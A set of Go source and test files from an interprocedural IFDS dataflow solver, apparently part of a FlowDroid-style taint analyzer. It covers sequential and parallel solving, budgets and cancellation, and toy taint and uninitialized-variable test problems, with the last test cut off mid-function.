func (p *uninit) Seeds() []ir.Stmt { return []ir.Stmt{p.entry} }

// gen at entry: every local of the entry method except parameters is
// possibly uninitialized. Locals are introduced lazily: the zero fact
// generates "uninitialized" facts at the method's first statement.
func (p *uninit) entryFacts(m *ir.Method) []*ir.Local {
	params := make(map[*ir.Local]bool, len(m.Params)+1)
	for _, pl := range m.Params {
		params[pl] = true
	}
	if m.This != nil {
		params[m.This] = true
	}
	var out []*ir.Local
	for _, l := range m.Locals() {
		if !params[l] {
			out = append(out, l)
		}
	}
	return out
}

// definedAt reports whether the statement assigns the local.
func definedAt(s ir.Stmt, l *ir.Local) bool {
	if a, ok := s.(*ir.AssignStmt); ok {
		if lhs, ok := a.LHS.(*ir.Local); ok {
			return lhs == l
		}
	}
	return ir.CallResult(s) == l
}

func (p *uninit) Normal(curr, succ ir.Stmt, d *ir.Local) []*ir.Local {
	var out []*ir.Local
	if d == nil {
		out = append(out, nil)
		if curr.Index() == 0 {
			// The entry facts hold before the first statement; they must
			// still pass through its own kill.
			for _, l := range p.entryFacts(curr.Method()) {
				if !definedAt(curr, l) {
					out = append(out, l)
				}
			}
		}
		return out
	}
	if definedAt(curr, d) {
		return out // killed by definition
	}
	return append(out, d)
}

func (p *uninit) Call(site ir.Stmt, callee *ir.Method, d *ir.Local) []*ir.Local {
	if d == nil {
		return []*ir.Local{nil}
	}
	return nil // uninitializedness does not cross into callees
}

func (p *uninit) Return(site ir.Stmt, callee *ir.Method, exit, retSite ir.Stmt, d *ir.Local) []*ir.Local {
	return nil
}

func (p *uninit) CallToReturn(site, retSite ir.Stmt, d *ir.Local) []*ir.Local {
	if d == nil {
		out := []*ir.Local{nil}
		if site.Index() == 0 {
			for _, l := range p.entryFacts(site.Method()) {
				if !definedAt(site, l) {
					out = append(out, l)
				}
			}
		}
		return out
	}
	if res := ir.CallResult(site); res == d {
		return nil // defined by the call
	}
	return []*ir.Local{d}
}

const uninitSrc = `
class U {
  static method main(): void {
    a = 1
    if * goto skip
    b = 2
  skip:
    c = a
    d = b
    return
  }
}
`

func TestUninitializedVariables(t *testing.T) {
	prog, err := irtext.ParseProgram(uninitSrc, "u.ir")
	if err != nil {
		t.Fatal(err)
	}
	main := prog.Class("U").Method("main", 0)
	res := pta.Build(context.Background(), prog, main)
	icfg := cfg.NewICFG(prog, res.Graph)
	p := &uninit{entry: main.EntryStmt()}
	s := NewSolver[*ir.Local](icfg, p)
	s.Solve()

	body := main.Body()
	// Find "c = a" and "d = b".
	var useA, useB ir.Stmt
	for _, st := range body {
		if a, ok := st.(*ir.AssignStmt); ok {
			if l, ok := a.LHS.(*ir.Local); ok {
				switch l.Name {
				case "c":
					useA = st
				case "d":
					useB = st
				}
			}
		}
	}
	a := main.LookupLocal("a")
	b := main.LookupLocal("b")
	if s.HasFactAt(useA, a) {
		t.Error("a is assigned on every path; it must not be possibly-uninitialized at its use")
	}
	if !s.HasFactAt(useB, b) {
		t.Error("b is skipped on one path; it must be possibly-uninitialized at its use")
	}
	// b is still possibly-uninitialized right after the branch.
	if !s.HasFactAt(body[2], b) {
		t.Error("b should be possibly-uninitialized before its assignment")
	}
}
