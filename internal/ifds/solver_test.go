package ifds

import (
	"context"
	"testing"

	"flowdroid/internal/cfg"
	"flowdroid/internal/ir"
	"flowdroid/internal/irtext"
	"flowdroid/internal/pta"
)

// localTaint is a deliberately simple IFDS problem used to exercise the
// solver: facts are tainted locals (no heap, no aliasing). Calls to
// T.source() generate taint, calls to T.sink(x) with tainted x are leaks.
type localTaint struct {
	entry ir.Stmt
	leaks map[ir.Stmt]bool
}

func (p *localTaint) Zero() *ir.Local  { return nil }
func (p *localTaint) Seeds() []ir.Stmt { return []ir.Stmt{p.entry} }

func (p *localTaint) Normal(curr, succ ir.Stmt, d *ir.Local) []*ir.Local {
	a, ok := curr.(*ir.AssignStmt)
	if !ok {
		return []*ir.Local{d}
	}
	lhs, ok := a.LHS.(*ir.Local)
	if !ok {
		return []*ir.Local{d}
	}
	if d == nil {
		return []*ir.Local{nil}
	}
	// Copy: taint flows from RHS local to LHS.
	if rhs, ok := a.RHS.(*ir.Local); ok && rhs == d {
		if lhs == d {
			return []*ir.Local{d}
		}
		return []*ir.Local{d, lhs}
	}
	// Strong update kills the LHS taint.
	if lhs == d {
		return nil
	}
	return []*ir.Local{d}
}

func (p *localTaint) Call(site ir.Stmt, callee *ir.Method, d *ir.Local) []*ir.Local {
	if d == nil {
		return []*ir.Local{nil}
	}
	call := ir.CallOf(site)
	var out []*ir.Local
	for i, arg := range call.Args {
		if arg == ir.Value(d) && i < len(callee.Params) {
			out = append(out, callee.Params[i])
		}
	}
	return out
}

func (p *localTaint) Return(site ir.Stmt, callee *ir.Method, exit, retSite ir.Stmt, d *ir.Local) []*ir.Local {
	if d == nil {
		return nil
	}
	ret := exit.(*ir.ReturnStmt)
	if ret.Value == ir.Value(d) {
		if res := ir.CallResult(site); res != nil {
			return []*ir.Local{res}
		}
	}
	return nil
}

func (p *localTaint) CallToReturn(site, retSite ir.Stmt, d *ir.Local) []*ir.Local {
	call := ir.CallOf(site)
	if d == nil {
		if call.Ref.Name == "source" {
			if res := ir.CallResult(site); res != nil {
				return []*ir.Local{nil, res}
			}
		}
		return []*ir.Local{nil}
	}
	if call.Ref.Name == "sink" {
		for _, arg := range call.Args {
			if arg == ir.Value(d) {
				p.leaks[site] = true
			}
		}
	}
	// The callee cannot untaint caller locals in this toy model.
	return []*ir.Local{d}
}

const taintSrc = `
class T {
  static method source(): java.lang.String;
  static method sink(x: java.lang.String): void;

  static method id(x: java.lang.String): java.lang.String {
    return x
  }

  static method wash(x: java.lang.String): java.lang.String {
    r = "clean"
    return r
  }

  static method main(): void {
    a = T.source()
    b = T.id(a)
    T.sink(b)          // leak 1: through the identity function

    c = "ok"
    e = T.id(c)
    T.sink(e)          // clean: same callee, different context

    f = T.source()
    g = T.wash(f)
    T.sink(g)          // clean: wash returns a constant

    h = T.source()
    h = "overwritten"
    T.sink(h)          // clean: strong update killed the taint

    k = T.source()
    if * goto skip
    k = "fine"
  skip:
    T.sink(k)          // leak 2: tainted on one branch
    return
  }
}
`

func runLocalTaint(t *testing.T) (*localTaint, *ir.Method) {
	t.Helper()
	prog, err := irtext.ParseProgram(taintSrc, "t.ir")
	if err != nil {
		t.Fatal(err)
	}
	main := prog.Class("T").Method("main", 0)
	res := pta.Build(context.Background(), prog, main)
	icfg := cfg.NewICFG(prog, res.Graph)
	problem := &localTaint{entry: main.EntryStmt(), leaks: make(map[ir.Stmt]bool)}
	s := NewSolver[*ir.Local](icfg, problem)
	s.Solve()
	return problem, main
}

func TestIFDSLeaks(t *testing.T) {
	problem, main := runLocalTaint(t)
	// Collect the sink call statements in order.
	var sinks []ir.Stmt
	for _, s := range main.Body() {
		if c := ir.CallOf(s); c != nil && c.Ref.Name == "sink" {
			sinks = append(sinks, s)
		}
	}
	if len(sinks) != 5 {
		t.Fatalf("expected 5 sink calls, found %d", len(sinks))
	}
	want := []bool{true, false, false, false, true}
	for i, sink := range sinks {
		if got := problem.leaks[sink]; got != want[i] {
			t.Errorf("sink %d (line %d): leak = %v, want %v", i, sink.Line(), got, want[i])
		}
	}
}

func TestIFDSContextSensitivity(t *testing.T) {
	// The identity function is called twice; context sensitivity means
	// the taint from the first call must not bleed into the second.
	problem, main := runLocalTaint(t)
	var second ir.Stmt
	count := 0
	for _, s := range main.Body() {
		if c := ir.CallOf(s); c != nil && c.Ref.Name == "sink" {
			count++
			if count == 2 {
				second = s
			}
		}
	}
	if problem.leaks[second] {
		t.Error("context-insensitive bleed: clean call to id() reported as leak")
	}
}

func TestIFDSFactsAt(t *testing.T) {
	prog, err := irtext.ParseProgram(taintSrc, "t.ir")
	if err != nil {
		t.Fatal(err)
	}
	main := prog.Class("T").Method("main", 0)
	res := pta.Build(context.Background(), prog, main)
	icfg := cfg.NewICFG(prog, res.Graph)
	problem := &localTaint{entry: main.EntryStmt(), leaks: make(map[ir.Stmt]bool)}
	s := NewSolver[*ir.Local](icfg, problem)
	s.Solve()
	// After "b = T.id(a)", both a and b must be tainted at the following
	// sink call.
	var firstSink ir.Stmt
	for _, st := range main.Body() {
		if c := ir.CallOf(st); c != nil && c.Ref.Name == "sink" {
			firstSink = st
			break
		}
	}
	a := main.LookupLocal("a")
	b := main.LookupLocal("b")
	if !s.HasFactAt(firstSink, a) {
		t.Error("a should be tainted at the first sink")
	}
	if !s.HasFactAt(firstSink, b) {
		t.Error("b should be tainted at the first sink")
	}
	facts := s.FactsAt(firstSink)
	if len(facts) != 2 {
		t.Errorf("FactsAt = %v, want exactly {a, b}", facts)
	}
	if s.PropagateCount == 0 {
		t.Error("propagation counter not incremented")
	}
}
