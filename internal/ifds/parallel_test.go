package ifds

import (
	"context"
	"sync"
	"testing"

	"flowdroid/internal/cfg"
	"flowdroid/internal/ir"
	"flowdroid/internal/irtext"
	"flowdroid/internal/pta"
)

// syncedTaint wraps localTaint with a mutex around the leak recording, as
// SolveParallel requires of problems with side effects.
type syncedTaint struct {
	localTaint
	mu sync.Mutex
}

func (p *syncedTaint) CallToReturn(site, retSite ir.Stmt, d *ir.Local) []*ir.Local {
	call := ir.CallOf(site)
	if d != nil && call.Ref.Name == "sink" {
		for _, arg := range call.Args {
			if arg == ir.Value(d) {
				p.mu.Lock()
				p.leaks[site] = true
				p.mu.Unlock()
			}
		}
		return []*ir.Local{d}
	}
	return p.localTaint.CallToReturn(site, retSite, d)
}

// TestParallelEquivalence: the parallel solver computes exactly the same
// fact sets and leaks as the sequential one, for several worker counts.
func TestParallelEquivalence(t *testing.T) {
	prog, err := irtext.ParseProgram(taintSrc, "t.ir")
	if err != nil {
		t.Fatal(err)
	}
	main := prog.Class("T").Method("main", 0)
	res := pta.Build(context.Background(), prog, main)
	icfg := cfg.NewICFG(prog, res.Graph)

	seqProblem := &localTaint{entry: main.EntryStmt(), leaks: make(map[ir.Stmt]bool)}
	seq := NewSolver[*ir.Local](icfg, seqProblem)
	seq.Solve()

	for _, workers := range []int{2, 4, 8} {
		parProblem := &syncedTaint{localTaint: localTaint{entry: main.EntryStmt(), leaks: make(map[ir.Stmt]bool)}}
		par := NewSolver[*ir.Local](icfg, parProblem)
		par.SolveParallel(workers)

		// Same leaks.
		if len(parProblem.leaks) != len(seqProblem.leaks) {
			t.Errorf("workers=%d: %d leaks, want %d", workers, len(parProblem.leaks), len(seqProblem.leaks))
		}
		for s := range seqProblem.leaks {
			if !parProblem.leaks[s] {
				t.Errorf("workers=%d: missing leak at %v", workers, s)
			}
		}
		// Same facts at every sink statement.
		for _, s := range main.Body() {
			if c := ir.CallOf(s); c != nil && c.Ref.Name == "sink" {
				a := seq.FactsAt(s)
				b := par.FactsAt(s)
				if len(a) != len(b) {
					t.Errorf("workers=%d: facts at %v differ: %v vs %v", workers, s, a, b)
				}
			}
		}
		// Same total path-edge count (the exploded graph is confluent).
		if par.PropagateCount != seq.PropagateCount {
			t.Errorf("workers=%d: %d path edges, want %d", workers, par.PropagateCount, seq.PropagateCount)
		}
	}
}

// TestParallelSingleWorkerDelegates: workers=1 falls back to Solve.
func TestParallelSingleWorkerDelegates(t *testing.T) {
	prog, err := irtext.ParseProgram(taintSrc, "t.ir")
	if err != nil {
		t.Fatal(err)
	}
	main := prog.Class("T").Method("main", 0)
	res := pta.Build(context.Background(), prog, main)
	icfg := cfg.NewICFG(prog, res.Graph)
	problem := &localTaint{entry: main.EntryStmt(), leaks: make(map[ir.Stmt]bool)}
	s := NewSolver[*ir.Local](icfg, problem)
	s.SolveParallel(1)
	if len(problem.leaks) != 2 {
		t.Errorf("leaks = %d, want 2", len(problem.leaks))
	}
}
