package ifds

import (
	"context"
	"runtime"
	"sync"

	"flowdroid/internal/ir"
	"flowdroid/internal/metrics"
)

// SolveParallel runs the problem with a pool of worker goroutines, the
// way Heros parallelizes IFDS: path-edge processing is independent work;
// the jump table, incoming sets and summaries are shared state. Flow
// functions are evaluated outside the solver lock and must therefore be
// safe for concurrent use (pure functions of their inputs; problems that
// record results, e.g. leaks, must synchronize their own writes).
//
// The computed fact sets are identical to Solve's — the exploded-graph
// reachability is confluent — only the discovery order differs.
func (s *Solver[D]) SolveParallel(workers int) {
	s.SolveParallelCtx(context.Background(), workers, Limits{})
}

// SolveParallelCtx is SolveParallel with cancellation and a propagation
// budget. When the context is done or the budget runs out, workers stop
// picking up queue items, finish their in-flight item, and exit; the call
// returns only after every worker goroutine has terminated, so no
// goroutines leak past it.
func (s *Solver[D]) SolveParallelCtx(ctx context.Context, workers int, lim Limits) SolveStatus {
	if workers <= 0 {
		workers = runtime.NumCPU()
	}
	if workers == 1 {
		return s.SolveCtx(ctx, lim)
	}
	p := &parallelRun[D]{s: s, lim: lim}
	p.cond = sync.NewCond(&p.mu)
	if rec := metrics.From(ctx); rec != nil {
		// Queue depth over time depends on worker interleaving; its peak
		// is a scheduling artifact, not a fact about the program.
		p.depth = rec.Gauge("ifds.queue_depth", metrics.Schedule)
		rec.Gauge("ifds.workers", metrics.Schedule).Set(int64(workers))
	}

	zero := s.Problem.Zero()
	for _, seed := range s.Problem.Seeds() {
		p.propagate(zero, seed, zero)
	}

	// A context that is already dead cancels the run before any worker
	// starts; only the seeds have been planted.
	if ctx.Err() != nil {
		return SolveCancelled
	}

	// The watcher turns context expiry into a queue shutdown. It is
	// released via watchDone once the workers are finished, so the solve
	// never leaves a goroutine behind.
	watchDone := make(chan struct{})
	var watchWG sync.WaitGroup
	watchWG.Add(1)
	go func() {
		defer watchWG.Done()
		select {
		case <-ctx.Done():
			p.stop(SolveCancelled)
		case <-watchDone:
		}
	}()

	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			p.worker()
		}()
	}
	wg.Wait()
	close(watchDone)
	watchWG.Wait()
	s.exportMetrics(ctx)

	p.mu.Lock()
	defer p.mu.Unlock()
	return p.status
}

// parallelRun wraps the solver state with a lock and a condition-variable
// work queue. pending counts queued plus in-flight items; the run is done
// when it reaches zero with an empty queue, when the context is
// cancelled, or when the propagation budget is exhausted.
type parallelRun[D comparable] struct {
	s       *Solver[D]
	lim     Limits
	mu      sync.Mutex
	cond    *sync.Cond
	queue   []workItem[D]
	pending int
	done    bool
	status  SolveStatus
	depth   *metrics.Gauge
}

// stop aborts the run with the given status and wakes every worker.
func (p *parallelRun[D]) stop(st SolveStatus) {
	p.mu.Lock()
	if !p.done {
		p.done = true
		p.status = st
	}
	p.cond.Broadcast()
	p.mu.Unlock()
}

// propagate inserts a path edge under the lock and enqueues it if new.
// It also charges the propagation budget: crossing the limit flips the
// run into the done state so workers abandon the remaining queue.
func (p *parallelRun[D]) propagate(d1 D, n ir.Stmt, d2 D) {
	p.mu.Lock()
	defer p.mu.Unlock()
	edges := p.s.jump[n]
	if edges == nil {
		edges = make(map[pair[D]]bool)
		p.s.jump[n] = edges
	}
	pe := pair[D]{d1, d2}
	if edges[pe] {
		return
	}
	edges[pe] = true
	p.s.PropagateCount++
	if p.lim.MaxPropagations > 0 && p.s.PropagateCount >= p.lim.MaxPropagations && !p.done {
		p.done = true
		p.status = SolveBudgetExhausted
		p.cond.Broadcast()
		return
	}
	p.queue = append(p.queue, workItem[D]{n, d1, d2})
	p.pending++
	p.depth.Add(1)
	p.cond.Signal()
}

func (p *parallelRun[D]) worker() {
	for {
		p.mu.Lock()
		for len(p.queue) == 0 && !p.done {
			if p.pending == 0 {
				p.done = true
				p.cond.Broadcast()
				break
			}
			p.cond.Wait()
		}
		// An aborted run (cancellation, budget) abandons the queue; a
		// completed run exits once the queue is empty.
		if p.done && (p.status != SolveComplete || len(p.queue) == 0) {
			p.mu.Unlock()
			return
		}
		it := p.queue[len(p.queue)-1]
		p.queue = p.queue[:len(p.queue)-1]
		p.mu.Unlock()
		p.depth.Add(-1)

		p.process(it)

		p.mu.Lock()
		p.pending--
		if p.pending == 0 {
			p.done = true
			p.cond.Broadcast()
		}
		p.mu.Unlock()
	}
}

// process mirrors Solver.drain's dispatch but funnels every propagation
// through the locked queue. Flow functions run unlocked.
func (p *parallelRun[D]) process(it workItem[D]) {
	s := p.s
	switch {
	case s.ICFG.IsCall(it.n):
		for _, callee := range s.ICFG.CalleesOf(it.n) {
			sp := s.ICFG.StartPoint(callee)
			if sp == nil {
				continue
			}
			for _, d3 := range s.Problem.Call(it.n, callee, it.d2) {
				p.registerIncoming(callee, d3, it)
				p.propagate(d3, sp, d3)
			}
		}
		for _, retSite := range s.ICFG.SuccsOf(it.n) {
			for _, d3 := range s.Problem.CallToReturn(it.n, retSite, it.d2) {
				p.propagate(it.d1, retSite, d3)
			}
		}

	case s.ICFG.IsExit(it.n):
		m := it.n.Method()
		key := methodCtx[D]{m, it.d1}
		ep := exitPair[D]{it.n, it.d2}
		p.mu.Lock()
		s.endSum[key] = append(s.endSum[key], ep)
		callers := make([]callerCtx[D], 0, len(s.incoming[key]))
		for cc := range s.incoming[key] {
			callers = append(callers, cc)
		}
		p.mu.Unlock()
		for _, cc := range callers {
			p.applyReturn(cc, m, ep)
		}

	default:
		for _, succ := range s.ICFG.SuccsOf(it.n) {
			for _, d3 := range s.Problem.Normal(it.n, succ, it.d2) {
				p.propagate(it.d1, succ, d3)
			}
		}
	}
}

// registerIncoming records the caller context and applies the summaries
// already installed for this callee context.
func (p *parallelRun[D]) registerIncoming(callee *ir.Method, d3 D, it workItem[D]) {
	s := p.s
	key := methodCtx[D]{callee, d3}
	cc := callerCtx[D]{it.n, it.d2, it.d1}
	p.mu.Lock()
	inc := s.incoming[key]
	if inc == nil {
		inc = make(map[callerCtx[D]]bool)
		s.incoming[key] = inc
	}
	if inc[cc] {
		p.mu.Unlock()
		return
	}
	inc[cc] = true
	sums := append([]exitPair[D](nil), s.endSum[key]...)
	p.mu.Unlock()
	for _, ep := range sums {
		p.applyReturn(cc, callee, ep)
	}
}

func (p *parallelRun[D]) applyReturn(cc callerCtx[D], callee *ir.Method, ep exitPair[D]) {
	for _, retSite := range p.s.ICFG.SuccsOf(cc.site) {
		for _, d5 := range p.s.Problem.Return(cc.site, callee, ep.exit, retSite, ep.d2) {
			p.propagate(cc.d1, retSite, d5)
		}
	}
}
