// Package ifds implements the IFDS framework of Reps, Horwitz and Sagiv
// ("Precise interprocedural dataflow analysis via graph reachability",
// POPL '95) with the practical extensions of Naeem, Lhoták and Rodriguez
// (CC '10): the exploded supergraph is built on the fly, so only facts
// that actually arise are ever materialized, and summaries are reused
// across calling contexts.
//
// This package is the stand-in for the Heros solver FlowDroid builds on.
// The generic solver here drives the baseline analyzers and the example
// problems; the core taint analysis in internal/taint uses two customized
// solver loops (Algorithms 1 and 2 of the paper) that share this design.
package ifds

import (
	"context"

	"flowdroid/internal/cfg"
	"flowdroid/internal/ir"
	"flowdroid/internal/metrics"
)

// SolveStatus reports how a solve run ended.
type SolveStatus int

const (
	// SolveComplete means the worklist drained to a fixed point.
	SolveComplete SolveStatus = iota
	// SolveCancelled means the context expired or was cancelled before
	// the fixed point; the recorded facts are a sound partial view of the
	// work done so far.
	SolveCancelled
	// SolveBudgetExhausted means the propagation budget ran out first.
	SolveBudgetExhausted
)

func (s SolveStatus) String() string {
	switch s {
	case SolveComplete:
		return "complete"
	case SolveCancelled:
		return "cancelled"
	case SolveBudgetExhausted:
		return "budget-exhausted"
	}
	return "unknown"
}

// Limits bounds a solve run. The zero value means unlimited.
type Limits struct {
	// MaxPropagations stops the solve after this many path-edge
	// insertions (0 = unlimited). Exhausting the budget leaves the solver
	// in a consistent but incomplete state.
	MaxPropagations int
}

// ctxCheckEvery is how many worklist items are processed between context
// polls; checking every iteration would dominate the tight loop.
const ctxCheckEvery = 256

// Problem defines an IFDS dataflow problem over facts of type D. Flow
// functions are distributive: they are applied to one fact at a time, and
// the solver takes unions implicitly. Every flow function must handle the
// zero fact (typically mapping it to itself, plus any facts generated at
// the statement, e.g. taints at sources).
type Problem[D comparable] interface {
	// Zero returns the tautological fact that holds everywhere.
	Zero() D

	// Seeds returns the statements at which the zero fact is planted;
	// conventionally the entry points' first statements.
	Seeds() []ir.Stmt

	// Normal maps a fact across a non-call statement onto its successor.
	Normal(curr, succ ir.Stmt, d D) []D

	// Call maps a fact at a call site into the callee's entry context
	// (actual-to-formal translation).
	Call(site ir.Stmt, callee *ir.Method, d D) []D

	// Return maps a fact at a callee exit back to the caller's return
	// site (formal-to-actual translation, including the return value).
	Return(site ir.Stmt, callee *ir.Method, exit, retSite ir.Stmt, d D) []D

	// CallToReturn maps a fact across a call site on the caller's side,
	// bypassing the callee.
	CallToReturn(site, retSite ir.Stmt, d D) []D
}

type pair[D comparable] struct{ d1, d2 D }

type methodCtx[D comparable] struct {
	m  *ir.Method
	d1 D
}

type callerCtx[D comparable] struct {
	site ir.Stmt
	d2   D // fact at the call site that entered the callee
	d1   D // source fact of the caller's path edge
}

type exitPair[D comparable] struct {
	exit ir.Stmt
	d2   D
}

type workItem[D comparable] struct {
	n      ir.Stmt
	d1, d2 D
}

// SummaryHooks lets a caller observe and pre-install end summaries —
// the generic solver's side of a persistent summary store (the taint
// engine has its own specialized implementation; see internal/taint and
// internal/summarystore). Lookup is consulted once per (callee, entry
// fact) context before the solver seeds the callee's subtree: returning
// ok=true installs the given exit facts as the context's complete end
// summary and skips the subtree. Installed is called for every end
// summary the solver computes itself.
type SummaryHooks[D comparable] interface {
	// Lookup returns the complete end summary for the context, if known.
	// The exits are (exit statement, fact) pairs for the callee.
	Lookup(callee *ir.Method, d3 D) (exits []ir.Stmt, facts []D, ok bool)
	// Installed reports one end-summary entry the solver computed.
	Installed(m *ir.Method, d1 D, exit ir.Stmt, d2 D)
}

// Solver runs an IFDS problem over an ICFG and records the reachable
// exploded-graph facts.
type Solver[D comparable] struct {
	ICFG    *cfg.ICFG
	Problem Problem[D]
	// Summaries, when non-nil, is consulted per context to reuse end
	// summaries instead of exploring callee subtrees (see SummaryHooks).
	Summaries SummaryHooks[D]

	jump         map[ir.Stmt]map[pair[D]]bool
	incoming     map[methodCtx[D]]map[callerCtx[D]]bool
	endSum       map[methodCtx[D]][]exitPair[D]
	sumInstalled map[methodCtx[D]]bool
	work         []workItem[D]

	// PropagateCount counts path-edge insertions, exposed for the
	// benchmark harness.
	PropagateCount int
}

// NewSolver creates a solver for the given problem.
func NewSolver[D comparable](icfg *cfg.ICFG, p Problem[D]) *Solver[D] {
	return &Solver[D]{
		ICFG:     icfg,
		Problem:  p,
		jump:     make(map[ir.Stmt]map[pair[D]]bool),
		incoming: make(map[methodCtx[D]]map[callerCtx[D]]bool),
		endSum:   make(map[methodCtx[D]][]exitPair[D]),
	}
}

// Solve plants the seeds and runs the worklist to exhaustion.
func (s *Solver[D]) Solve() {
	s.SolveCtx(context.Background(), Limits{})
}

// SolveCtx plants the seeds and runs the worklist until a fixed point,
// the context is done, or the propagation budget is exhausted. When it
// returns early the recorded facts are the partial view computed so far.
func (s *Solver[D]) SolveCtx(ctx context.Context, lim Limits) SolveStatus {
	zero := s.Problem.Zero()
	for _, seed := range s.Problem.Seeds() {
		s.propagate(zero, seed, zero)
	}
	st := s.drain(ctx, lim)
	s.exportMetrics(ctx)
	return st
}

// exportMetrics publishes the solver's size counters when the context
// carries a recorder. Path-edge and jump-table counts are properties of
// the exploded graph's reachable subset, hence deterministic on
// completed runs regardless of worker count or discovery order.
func (s *Solver[D]) exportMetrics(ctx context.Context) {
	rec := metrics.From(ctx)
	if rec == nil {
		return
	}
	rec.Counter("ifds.propagations", metrics.Deterministic).Add(int64(s.PropagateCount))
	rec.Gauge("ifds.jump_stmts", metrics.Deterministic).Set(int64(len(s.jump)))
	rec.Gauge("ifds.summaries", metrics.Deterministic).Set(int64(len(s.endSum)))
}

func (s *Solver[D]) drain(ctx context.Context, lim Limits) SolveStatus {
	steps := 0
	for len(s.work) > 0 {
		if lim.MaxPropagations > 0 && s.PropagateCount >= lim.MaxPropagations {
			return SolveBudgetExhausted
		}
		steps++
		if steps%ctxCheckEvery == 0 && ctx.Err() != nil {
			return SolveCancelled
		}
		it := s.work[len(s.work)-1]
		s.work = s.work[:len(s.work)-1]
		switch {
		case s.ICFG.IsCall(it.n):
			s.processCall(it)
		case s.ICFG.IsExit(it.n):
			s.processExit(it)
		default:
			s.processNormal(it)
		}
	}
	return SolveComplete
}

// propagate inserts the path edge ⟨sp(method(n)), d1⟩ → ⟨n, d2⟩ if new.
func (s *Solver[D]) propagate(d1 D, n ir.Stmt, d2 D) {
	edges := s.jump[n]
	if edges == nil {
		edges = make(map[pair[D]]bool)
		s.jump[n] = edges
	}
	pe := pair[D]{d1, d2}
	if edges[pe] {
		return
	}
	edges[pe] = true
	s.PropagateCount++
	s.work = append(s.work, workItem[D]{n, d1, d2})
}

func (s *Solver[D]) processNormal(it workItem[D]) {
	for _, succ := range s.ICFG.SuccsOf(it.n) {
		for _, d3 := range s.Problem.Normal(it.n, succ, it.d2) {
			s.propagate(it.d1, succ, d3)
		}
	}
}

func (s *Solver[D]) processCall(it workItem[D]) {
	// Descend into callees with bodies.
	for _, callee := range s.ICFG.CalleesOf(it.n) {
		sp := s.ICFG.StartPoint(callee)
		if sp == nil {
			continue
		}
		for _, d3 := range s.Problem.Call(it.n, callee, it.d2) {
			key := methodCtx[D]{callee, d3}
			installed := s.installSummary(key)
			inc := s.incoming[key]
			if inc == nil {
				inc = make(map[callerCtx[D]]bool)
				s.incoming[key] = inc
			}
			cc := callerCtx[D]{it.n, it.d2, it.d1}
			if !inc[cc] {
				inc[cc] = true
				// Apply existing summaries for this context.
				for _, ep := range s.endSum[key] {
					s.applyReturn(cc, callee, ep)
				}
			}
			if !installed {
				s.propagate(d3, sp, d3)
			}
		}
	}
	// Call-to-return on the caller's side.
	for _, retSite := range s.ICFG.SuccsOf(it.n) {
		for _, d3 := range s.Problem.CallToReturn(it.n, retSite, it.d2) {
			s.propagate(it.d1, retSite, d3)
		}
	}
}

// installSummary consults the summary hooks for a context, once. On a
// hit the stored exits become the context's end summary (so callers
// registered before and after replay them identically) and the callee's
// subtree is not seeded. A context the solver already has an end
// summary or installed decision for is never looked up again.
func (s *Solver[D]) installSummary(key methodCtx[D]) bool {
	if s.Summaries == nil {
		return false
	}
	if done, ok := s.sumInstalled[key]; ok {
		return done
	}
	exits, facts, ok := s.Summaries.Lookup(key.m, key.d1)
	if s.sumInstalled == nil {
		s.sumInstalled = make(map[methodCtx[D]]bool)
	}
	s.sumInstalled[key] = ok
	if !ok {
		return false
	}
	for i, exit := range exits {
		if i < len(facts) {
			s.endSum[key] = append(s.endSum[key], exitPair[D]{exit, facts[i]})
		}
	}
	return true
}

func (s *Solver[D]) processExit(it workItem[D]) {
	m := it.n.Method()
	key := methodCtx[D]{m, it.d1}
	ep := exitPair[D]{it.n, it.d2}
	s.endSum[key] = append(s.endSum[key], ep)
	if s.Summaries != nil {
		s.Summaries.Installed(m, it.d1, it.n, it.d2)
	}
	for cc := range s.incoming[key] {
		s.applyReturn(cc, m, ep)
	}
}

func (s *Solver[D]) applyReturn(cc callerCtx[D], callee *ir.Method, ep exitPair[D]) {
	for _, retSite := range s.ICFG.SuccsOf(cc.site) {
		for _, d5 := range s.Problem.Return(cc.site, callee, ep.exit, retSite, ep.d2) {
			s.propagate(cc.d1, retSite, d5)
		}
	}
}

// FactsAt returns the non-zero facts that may hold on entry to n,
// deduplicated but in nondeterministic order.
func (s *Solver[D]) FactsAt(n ir.Stmt) []D {
	zero := s.Problem.Zero()
	seen := make(map[D]bool)
	var out []D
	for pe := range s.jump[n] {
		if pe.d2 != zero && !seen[pe.d2] {
			seen[pe.d2] = true
			out = append(out, pe.d2)
		}
	}
	return out
}

// HasFactAt reports whether fact d may hold on entry to n.
func (s *Solver[D]) HasFactAt(n ir.Stmt, d D) bool {
	for pe := range s.jump[n] {
		if pe.d2 == d {
			return true
		}
	}
	return false
}
