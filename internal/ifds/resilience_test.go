package ifds

import (
	"context"
	"fmt"
	"runtime"
	"strings"
	"testing"
	"time"

	"flowdroid/internal/cfg"
	"flowdroid/internal/ir"
	"flowdroid/internal/irtext"
	"flowdroid/internal/pta"
)

// bigTaintICFG builds a program whose main has n source/sink pairs. Every
// source fact survives to the end of the method, so the solve costs
// O(n^2) path edges — enough work that budgets and cancellation bite
// mid-run instead of after the fixed point.
func bigTaintICFG(t testing.TB, n int) (*cfg.ICFG, *ir.Method) {
	t.Helper()
	var sb strings.Builder
	sb.WriteString("class T {\n")
	sb.WriteString("  static method source(): java.lang.String;\n")
	sb.WriteString("  static method sink(x: java.lang.String): void;\n")
	sb.WriteString("  static method main(): void {\n")
	for i := 0; i < n; i++ {
		fmt.Fprintf(&sb, "    v%d = T.source()\n", i)
		fmt.Fprintf(&sb, "    T.sink(v%d)\n", i)
	}
	sb.WriteString("    return\n  }\n}\n")
	prog, err := irtext.ParseProgram(sb.String(), "big.ir")
	if err != nil {
		t.Fatal(err)
	}
	main := prog.Class("T").Method("main", 0)
	res := pta.Build(context.Background(), prog, main)
	return cfg.NewICFG(prog, res.Graph), main
}

func TestSolveCtxBudgetExhausted(t *testing.T) {
	icfg, main := bigTaintICFG(t, 100)
	problem := &localTaint{entry: main.EntryStmt(), leaks: make(map[ir.Stmt]bool)}
	s := NewSolver[*ir.Local](icfg, problem)
	const budget = 50
	if st := s.SolveCtx(context.Background(), Limits{MaxPropagations: budget}); st != SolveBudgetExhausted {
		t.Fatalf("status = %v, want %v", st, SolveBudgetExhausted)
	}
	if s.PropagateCount < budget {
		t.Errorf("stopped after %d propagations, budget was %d", s.PropagateCount, budget)
	}
	// The partial state must still be a consistent prefix: a fresh
	// unbounded solve does strictly more work.
